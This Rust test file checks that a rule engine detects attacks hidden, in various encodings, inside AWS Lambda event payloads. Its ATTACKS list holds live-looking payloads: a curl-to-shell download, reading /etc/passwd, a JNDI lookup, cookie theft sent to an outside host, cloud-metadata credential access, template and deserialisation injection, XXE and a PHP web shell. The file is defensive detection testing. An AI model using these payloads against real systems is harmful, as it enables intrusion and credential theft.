//! Attacks in invocation events: whatever text of an event they stand in, in the encoding its source would give them, the
//! built-in rules find them; the events as they are pass.
#![expect(
    clippy::unwrap_used,
    clippy::print_stdout,
    clippy::disallowed_methods,
    reason = "a test fails by panicking, and says when it is skipped"
)]

#[path = "support/suite.rs"]
mod suite;

use std::collections::BTreeMap;
use std::io::Write as _;

use base64::Engine as _;
use brigandine_inspect::{Action, RuleSet, Settings, Sources, Verdict, builtin};
use serde_json::{Value, json};

/// An attack of each kind that functions meet, and its kind.
const ATTACKS: [(&str, &str); 20] = [
    ("sql", "x' OR '1'='1' -- "),
    ("sql", "7 UNION SELECT login, secret FROM accounts"),
    ("sql", "1; DROP TABLE invoices; --"),
    ("nosql", "{\"$where\": \"this.password.match(/.*/)\"}"),
    ("nosql", "{\"login\": {\"$gt\": \"\"}}"),
    ("command", "a.png; curl http://203.0.113.9/x | sh"),
    ("command", "$(cat /etc/passwd)"),
    ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("template", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("lookup", "${jndi:ldap://203.0.113.9:1389/a}"),
    ("node", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("python", "__import__('os').system('id')"),
    ("python", "!!python/object/apply:os.system ['id']"),
    ("traversal", "../../../../var/task/secrets.env"),
    ("request", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("script", "<script>fetch('//203.0.113.9/'+document.cookie)</script>"),
    ("script", "<img src=x onerror=alert(1)>"),
    ("entity", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>"),
    ("prototype", "{\"__proto__\": {\"admin\": true}}"),
    ("php", "<?php system($_GET['c']); ?>"),
];

/// One text of an event: the keys and indices that lead to it.
type Path = Vec<String>;

fn texts(value: &Value, path: &mut Path, found: &mut Vec<Path>) {
    let mut enter = |name: String, item: &Value| {
        path.push(name);
        texts(item, path, found);
        path.pop();
    };
    match value {
        Value::String(_) => found.push(path.clone()),
        Value::Array(items) => items.iter().enumerate().for_each(|(index, item)| enter(index.to_string(), item)),
        Value::Object(members) => members.iter().for_each(|(name, item)| enter(name.clone(), item)),
        _ => {}
    }
}

fn with(event: &Value, path: &[String], text: String) -> Value {
    let mut event = event.clone();
    let pointer =
        path.iter().fold(String::new(), |pointer, name| pointer + "/" + &name.replace('~', "~0").replace('/', "~1"));
    *event.pointer_mut(&pointer).unwrap() = Value::String(text);
    event
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

/// As an object key is told: percent-encoded, blanks as plus signs.
fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |encoded, byte| match byte {
        b' ' => encoded + "+",
        b'/' | b'-' | b'_' | b'.' => encoded + &char::from(byte).to_string(),
        _ if byte.is_ascii_alphanumeric() => encoded + &char::from(byte).to_string(),
        _ => encoded + &format!("%{byte:02X}"),
    })
}

/// The ways in which the source of an event would carry an attack in this place.
fn carried(path: &[String], attack: &str) -> Vec<String> {
    let last = path.last().map_or("", String::as_str);
    let before =
        |back: usize| path.len().checked_sub(back + 1).and_then(|place| path.get(place)).map_or("", String::as_str);
    let object = before(1) == "object" || path.iter().any(|name| name == "tasks");
    if matches!(last, "key" | "s3Key") && object {
        return vec![percent_encoded(attack), percent_encoded(&percent_encoded(attack))];
    }
    if before(1) == "awslogs" {
        let message = json!({"messageType": "DATA_MESSAGE", "logEvents": [{"id": "1", "message": attack}]});
        return vec![base64(&gzip(message.to_string().as_bytes()))];
    }
    if matches!(last, "data" | "B" | "binaryValue" | "value") || matches!(before(1), "BS" | "binaryListValues") {
        let message = json!({ "note": attack }).to_string();
        return vec![base64(attack.as_bytes()), base64(message.as_bytes()), base64(&gzip(message.as_bytes()))];
    }
    if matches!(last, "body" | "Message" | "message") {
        let message = json!({ "note": attack }).to_string();
        let topic = json!({"Type": "Notification", "MessageId": "1", "Message": message});
        return vec![attack.to_owned(), message, topic.to_string()];
    }
    vec![attack.to_owned()]
}

/// What came of the attacks.
#[derive(Default)]
struct Count {
    caught: usize,
    missed: BTreeMap<&'static str, usize>,
}

struct Trial {
    rules: RuleSet,
    count: Count,
}

impl Trial {
    fn new() -> Self {
        let rules = RuleSet::load(&builtin::configuration(1), &Sources::new()).unwrap();
        Self { rules, count: Count::default() }
    }

    fn inspect(&self, event: &Value) -> Verdict {
        self.rules.inspect_event(event.to_string().as_bytes(), &Settings::default())
    }

    /// Puts attacks into every text of an event: all of them, or some, others in the next text.
    fn attack(&mut self, name: &str, event: &Value, step: usize) {
        let untouched = self.inspect(event);
        assert_eq!(untouched.action, Action::Allow, "what is refused as it is proves nothing: {name}");
        let mut paths = Vec::new();
        texts(event, &mut Path::new(), &mut paths);
        for (place, path) in paths.iter().enumerate() {
            for (kind, attack) in ATTACKS.iter().skip(place % step).step_by(step) {
                for carried in carried(path, attack) {
                    if self.inspect(&with(event, path, carried.clone())).action == Action::Block {
                        self.count.caught += 1;
                        continue;
                    }
                    *self.count.missed.entry(kind).or_default() += 1;
                    if self.count.missed.values().sum::<usize>() <= 20 {
                        println!("missed in {name} at {}: {carried}", path.join("."));
                    }
                }
            }
        }
    }

    fn report(&self, name: &str) {
        let missed: usize = self.count.missed.values().sum();
        println!("{name}: {} caught, {missed} missed {:?}", self.count.caught, self.count.missed);
        assert!(missed * 100 <= self.count.caught + missed, "fewer than 99 % were caught");
    }
}

/// Events of the suite, each with its name and its bytes.
fn suite_events() -> Vec<(String, Vec<u8>)> {
    let Some(folder) = suite::folder("events") else {
        println!("events: skipped, the suite is not there");
        return Vec::new();
    };
    let name = |path: &std::path::Path| path.file_name().unwrap().to_string_lossy().into_owned();
    suite::files(&folder, ".json").iter().map(|path| (name(path), std::fs::read(path).unwrap())).collect()
}

/// Every kind of place that carries a text in another form, in a few small events.
fn own_events() -> Vec<Value> {
    let record =
        |source: &str, part: Value| json!({"Records": [{"eventSource": source, "eventID": "1", "part": part}]});
    vec![
        json!({"Records": [{"eventSource": "aws:s3", "s3": {"object": {"key": "summer/beach+day.jpg", "size": 10}}}]}),
        json!({"Records": [{"eventSource": "aws:sqs", "body": "{\"order\": 7}", "messageAttributes": {"a": {"stringValue": "b"}}}]}),
        record("aws:kinesis", json!({"data": base64(b"{\"reading\": 21.5}"), "partitionKey": "sensor-7"})),
        record(
            "aws:dynamodb",
            json!({"NewImage": {"name": {"S": "Anna O'Brien"}, "raw": {"B": base64(b"\x00\x01\x02\xff")}}}),
        ),
        json!({"awslogs": {"data": base64(&gzip(b"{\"logEvents\": [{\"id\": \"1\", \"message\": \"started\"}]}"))}}),
        json!({"source": "shop.orders", "detail-type": "OrderPlaced", "detail": {"note": "ring twice, it's urgent"}}),
    ]
}

#[test]
fn attacks_in_events_of_every_source_are_caught() {
    let mut trial = Trial::new();
    for (number, event) in own_events().iter().enumerate() {
        trial.attack(&number.to_string(), event, 1);
    }
    trial.report("events of our own");
    assert_eq!(trial.count.missed, BTreeMap::new());
}

#[test]
fn a_full_batch_of_a_stream_is_affordable() {
    // A tenth of the most that a stream hands over at once.
    let record = |number: usize| {
        json!({
            "kinesis": {
                "kinesisSchemaVersion": "1.0",
                "partitionKey": format!("sensor-{number}"),
                "sequenceNumber": format!("4956816737333333333333333333333333333333333333333333{number:04}"),
                "data": base64(format!("{{\"sensor\": {number}, \"reading\": 21.5, \"note\": \"it's fine\"}}").as_bytes()),
                "approximateArrivalTimestamp": 1_480_641_523.477
            },
            "eventSource": "aws:kinesis",
            "eventVersion": "1.0",
            "eventID": format!("shardId-000000000000:{number}"),
            "eventName": "aws:kinesis:record",
            "invokeIdentityArn": "arn:aws:iam::123456789012:role/LambdaRole",
            "awsRegion": "us-east-1",
            "eventSourceARN": "arn:aws:kinesis:us-east-1:123456789012:stream/simple-stream"
        })
    };
    let batch = |records: usize| json!({ "Records": (0..records).map(record).collect::<Vec<_>>() });
    let trial = Trial::new();
    let verdict = trial.inspect(&batch(1_000));
    println!("a thousand records: {} units of work, {} for one", verdict.work, trial.inspect(&batch(1)).work);
    assert_eq!((verdict.action, verdict.budget_exceeded), (Action::Allow, false), "{:?}", verdict.matches);
    // Less than what the texts of a record bring with them: ten thousand of them pass as well.
    assert!(verdict.work < 1_000 * 30_000, "{} units", verdict.work);
}

#[test]
fn sample_events_pass_as_they_are() {
    let trial = Trial::new();
    let mut refused = Vec::new();
    let events = suite_events();
    for (name, bytes) in &events {
        let verdict = trial.rules.inspect_event(bytes, &Settings::default());
        if verdict.action == Action::Block {
            refused.push((name, verdict.matches));
        }
    }
    println!("events: {} passed, {} failed, 0 excused", events.len() - refused.len(), refused.len());
    assert!(refused.is_empty(), "{refused:#?}");
}

fn attack_the_suite(step: usize) {
    let mut trial = Trial::new();
    for (name, bytes) in suite_events() {
        // One sample is broken on purpose and no event.
        if let Ok(event) = serde_json::from_slice::<Value>(&bytes) {
            trial.attack(&name, &event, step);
        }
    }
    trial.report("attacks in sample events");
}

#[test]
fn attacks_in_sample_events_are_caught() {
    attack_the_suite(20);
}

#[test]
#[ignore = "every attack in every text takes minutes without optimisation; the test above takes one of twenty in turn"]
fn every_attack_in_every_text_is_caught() {
    attack_the_suite(1);
}
